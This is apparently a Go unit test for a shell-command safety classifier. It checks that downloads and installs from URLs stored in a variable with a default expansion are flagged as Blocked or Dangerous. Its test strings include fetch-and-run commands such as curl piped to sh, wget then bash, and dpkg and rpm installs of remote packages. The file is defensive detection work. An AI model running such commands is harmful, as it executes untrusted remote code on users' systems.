package classify

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestAttackS29SetVariableWithDefault: ${u:-z} (and -, :=, =, :?, ?) of
// a variable the line set to a value that is not empty is that value,
// as $u and ${u} are: the rules that look at a URL or a downloaded
// file's name in a variable (3953455) read it. It was read as text not
// known, so u=github:x/y; npm install ${u:-lodash} was Warning, and a
// downloader's remote name from a variable (u=URL/a.deb; curl -O $u &&
// dpkg -i a.deb) was not recorded.
func TestAttackS29SetVariableWithDefault(t *testing.T) {
	attackAtLeast(t, Blocked, []string{
		`u=github:x/y; npm install ${u:-lodash}`,
		`u=github:x/y; npm install "${u-lodash}"`,
		`u=git+https://x.test/y; pip install ${u:-requests}`,
		`u=https://x.test/a.rpm; rpm -i "${u:-x}"`,
		`u=https://x.test/a.rpm; rpm -i "${u:?no url}"`,
		`f=x.deb; curl -o x https://x.test/x && mv x "$f" && dpkg -i "${f:-y}"`,
		`u=https://x.test/a.deb; curl -O $u && dpkg -i a.deb`,
		`u=https://x.test/a.deb; curl -O "${u}" && dpkg -i a.deb`,
		`u=https://x.test/i.sh; curl -O ${u:-z} && sh i.sh`,
		`u=https://x.test/i.sh; wget "${u:-z}" && bash i.sh`,
		`u=https://x.test/a; curl ${u:-z} | sh`,
	})
	attackAtLeast(t, Dangerous, []string{
		`u=https://x.test/m.yaml; kubectl apply -f "${u:-m.yaml}"`,
	})
	// The plain forms they match.
	attackAtLeast(t, Blocked, []string{
		`u=github:x/y; npm install "$u"`,
		`u=https://x.test/a.rpm; rpm -i "$u"`,
		`curl -O https://x.test/a.deb && dpkg -i a.deb`,
	})
	// The default of a variable the line did not set, or set empty, is
	// still what it was.
	attackSafe(t, []string{`echo ${HOME:-/root}`, `echo "${u:-x}"`})
	for _, l := range []string{
		`npm install ${u:-lodash}`,
		`u=; npm install ${u:-lodash}`,
		`u=https://x.test/a.deb; curl -O $u && dpkg -i b.deb`,
		`u=github:x/y; npm install ${u:+lodash}`,
	} {
		v := Classify(l)
		assert.Equal(t, Warning, v.Level, "%q: %v", l, v.Reasons)
	}
}
